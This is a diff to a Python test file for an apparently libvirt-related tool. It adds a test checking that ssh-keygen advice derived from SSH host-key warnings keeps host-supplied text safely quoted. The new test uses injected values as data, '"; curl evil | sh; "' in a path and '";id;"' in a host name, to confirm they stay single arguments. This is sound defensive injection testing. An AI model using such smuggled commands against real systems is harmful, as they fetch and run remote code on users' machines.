@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import re
+import shlex
+
 import pytest
 
 from tuivirt.backend.reasons import by_libvirt, told_by_ssh
@@ -81,9 +84,24 @@ def test_a_changed_key_is_told_with_all_that_ssh_found_and_no_command_that_conne
         "the host key of srv2 is not the one that is known (line 12 of "
         "/home/o p/.ssh/known_hosts); the key that came is SHA256:abc"
     )
-    assert 'ssh-keygen -f "/home/o p/.ssh/known_hosts" -R "srv2"' in advice
+    assert "ssh-keygen -f '/home/o p/.ssh/known_hosts' -R srv2 forgets" in advice
     assert "Ask its owner" in advice
     assert "StrictHostKeyChecking" not in advice
+
+
+def test_a_command_that_is_told_holds_nothing_that_a_host_has_put_there() -> None:
+    said = (
+        "REMOTE HOST IDENTIFICATION HAS CHANGED\n"
+        'Offending ECDSA key in /x"; curl evil | sh; ":1\n'
+        'Host key for h";id;" has changed\n'
+    )
+    told = told_by_ssh(said, URI)
+    assert told is not None
+    command = re.search(r"(ssh-keygen .*) forgets", told[1])
+    assert command is not None
+    assert shlex.split(command[1]) == [
+        *("ssh-keygen", "-f", '/x"; curl evil | sh; "', "-R", 'h";id;"')
+    ]
 
 
 @pytest.mark.parametrize(
